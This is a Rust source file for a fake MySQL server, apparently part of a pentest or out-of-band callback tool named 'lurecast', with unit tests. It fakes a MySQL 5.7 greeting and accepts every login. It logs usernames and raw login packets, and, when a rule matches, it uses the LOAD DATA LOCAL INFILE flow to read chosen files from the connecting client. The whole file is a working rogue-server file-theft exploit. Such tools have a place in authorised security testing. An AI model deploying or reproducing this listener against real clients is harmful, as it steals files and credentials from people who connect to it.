//! MySQL listener
//!
//! Serves a protocol-10 greeting, captures the client's login packet, and,
//! when the matched rule asks for it, requests client files through the
//! LOAD DATA LOCAL INFILE flow.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use crate::error::AppResult;
use crate::models::interaction::InteractionDraft;
use crate::models::rule::Protocol;
use crate::registry::Registry;
use crate::ruleset::RuleAction;

const SERVER_VERSION: &str = "5.7.31";
const MAX_PACKET_BYTES: usize = 65536;
const CLIENT_PROTOCOL_41: u16 = 0x0200;

pub async fn run(registry: Arc<Registry>) -> AppResult<()> {
    let addr = registry.config().mysql_addr.clone();
    let listener = TcpListener::bind(&addr).await?;
    tracing::info!(%addr, "MySQL listener started");

    loop {
        let (stream, peer) = listener.accept().await?;
        let registry = registry.clone();
        tokio::spawn(async move {
            handle_session(registry, stream, peer).await;
        });
    }
}

#[derive(Default)]
struct Session {
    username: Option<String>,
    login_raw: String,
    files: serde_json::Map<String, serde_json::Value>,
}

impl Session {
    /// Scannable fields in match order: username, raw login payload.
    fn draft(&self, peer: SocketAddr) -> InteractionDraft {
        let mut draft = InteractionDraft::new(Protocol::Mysql, peer.to_string())
            .field("username", self.username.clone().unwrap_or_default())
            .field("raw", self.login_raw.clone())
            .payload(self.login_raw.clone());
        if !self.files.is_empty() {
            draft = draft.meta(serde_json::json!({ "files": self.files.clone() }));
        }
        draft
    }

    fn is_empty(&self) -> bool {
        self.username.is_none() && self.login_raw.is_empty()
    }
}

async fn handle_session(registry: Arc<Registry>, stream: TcpStream, peer: SocketAddr) {
    let deadline = Duration::from_secs(registry.config().session_timeout_secs);
    let mut session = Session::default();

    let _ = tokio::time::timeout(deadline, run_session(&registry, stream, peer, &mut session)).await;

    if session.is_empty() {
        return;
    }
    if let Err(err) = registry.capture(session.draft(peer)).await {
        tracing::error!(%peer, "MySQL capture failed: {}", err);
    }
}

async fn run_session(
    registry: &Registry,
    mut stream: TcpStream,
    peer: SocketAddr,
    session: &mut Session,
) -> AppResult<()> {
    write_packet(&mut stream, 0, &greeting_payload()).await?;

    let Some((_, login)) = read_packet(&mut stream).await? else {
        return Ok(());
    };
    session.username = parse_login_username(&login);
    session.login_raw = String::from_utf8_lossy(&login).into_owned();

    // authenticate everyone
    write_packet(&mut stream, 2, &[0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00]).await?;

    let outcome = registry.match_only(&session.draft(peer));
    let read_files = match outcome.as_ref().map(|o| &o.rule.action) {
        Some(RuleAction::Mysql { read_files }) => read_files.clone(),
        _ => Vec::new(),
    };

    // each requested file rides on the next client command packet
    for file in read_files {
        let Some((seq, _command)) = read_packet(&mut stream).await? else {
            return Ok(());
        };

        let mut request = vec![0xFB];
        request.extend_from_slice(file.as_bytes());
        write_packet(&mut stream, seq.wrapping_add(1), &request).await?;

        let mut content = Vec::new();
        let mut last_seq = seq.wrapping_add(1);
        loop {
            let Some((seq, chunk)) = read_packet(&mut stream).await? else {
                return Ok(());
            };
            last_seq = seq;
            if chunk.is_empty() {
                break;
            }
            if content.len() < MAX_PACKET_BYTES {
                content.extend_from_slice(&chunk);
            }
        }
        session.files.insert(
            file,
            serde_json::Value::String(String::from_utf8_lossy(&content).into_owned()),
        );
        write_packet(
            &mut stream,
            last_seq.wrapping_add(1),
            &[0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00],
        )
        .await?;
    }

    Ok(())
}

/// Protocol-10 handshake with CLIENT_LOCAL_FILES advertised.
fn greeting_payload() -> Vec<u8> {
    let mut payload = vec![0x0A];
    payload.extend_from_slice(SERVER_VERSION.as_bytes());
    payload.push(0x00);
    payload.extend_from_slice(&1u32.to_le_bytes()); // connection id
    payload.extend_from_slice(b"lurecast"); // 8 bytes of auth plugin data
    payload.push(0x00);
    payload.extend_from_slice(&[0xFF, 0xF7]); // capabilities (lower), includes LOCAL_FILES
    payload.push(0x21); // charset utf8
    payload.extend_from_slice(&[0x02, 0x00]); // status: autocommit
    payload.extend_from_slice(&[0x00, 0x00]); // capabilities (upper)
    payload.extend_from_slice(&[0x00; 11]); // filler
    payload
}

async fn write_packet(stream: &mut TcpStream, seq: u8, payload: &[u8]) -> AppResult<()> {
    let len = payload.len() as u32;
    let mut header = len.to_le_bytes();
    header[3] = seq;
    stream.write_all(&header).await?;
    stream.write_all(payload).await?;
    Ok(())
}

async fn read_packet(stream: &mut TcpStream) -> AppResult<Option<(u8, Vec<u8>)>> {
    let mut header = [0u8; 4];
    match stream.read_exact(&mut header).await {
        Ok(_) => {}
        Err(e) if e.kind() == std::io::ErrorKind::UnexpectedEof => return Ok(None),
        Err(e) => return Err(e.into()),
    }
    let len = u32::from_le_bytes([header[0], header[1], header[2], 0]) as usize;
    if len > MAX_PACKET_BYTES {
        return Ok(None);
    }
    let mut payload = vec![0u8; len];
    match stream.read_exact(&mut payload).await {
        Ok(_) => Ok(Some((header[3], payload))),
        Err(e) if e.kind() == std::io::ErrorKind::UnexpectedEof => Ok(None),
        Err(e) => Err(e.into()),
    }
}

/// Pull the username out of a handshake response (4.1 and pre-4.1 layouts).
fn parse_login_username(payload: &[u8]) -> Option<String> {
    if payload.len() < 2 {
        return None;
    }
    let flags = u16::from_le_bytes([payload[0], payload[1]]);
    let offset = if flags & CLIENT_PROTOCOL_41 != 0 {
        4 + 4 + 1 + 23
    } else {
        2 + 3
    };
    let rest = payload.get(offset..)?;
    let end = rest.iter().position(|&b| b == 0)?;
    if end == 0 {
        return None;
    }
    Some(String::from_utf8_lossy(&rest[..end]).into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_protocol_41_username() {
        let mut payload = Vec::new();
        payload.extend_from_slice(&0x0200u32.to_le_bytes()); // capabilities with PROTOCOL_41
        payload.extend_from_slice(&0u32.to_le_bytes()); // max packet
        payload.push(0x21); // charset
        payload.extend_from_slice(&[0u8; 23]); // reserved
        payload.extend_from_slice(b"FLAG{abc123}\0");

        assert_eq!(
            parse_login_username(&payload).as_deref(),
            Some("FLAG{abc123}")
        );
    }

    #[test]
    fn parses_legacy_username() {
        let mut payload = Vec::new();
        payload.extend_from_slice(&[0x05, 0x00]); // capabilities, no PROTOCOL_41
        payload.extend_from_slice(&[0x00, 0x00, 0x00]); // max packet
        payload.extend_from_slice(b"olduser\0");

        assert_eq!(parse_login_username(&payload).as_deref(), Some("olduser"));
    }

    #[test]
    fn rejects_garbage_logins() {
        assert!(parse_login_username(&[]).is_none());
        assert!(parse_login_username(&[0x00]).is_none());
        assert!(parse_login_username(&[0xFF; 10]).is_none());
    }

    #[test]
    fn greeting_is_protocol_10() {
        let payload = greeting_payload();
        assert_eq!(payload[0], 0x0A);
        assert!(payload
            .windows(SERVER_VERSION.len())
            .any(|w| w == SERVER_VERSION.as_bytes()));
    }
}
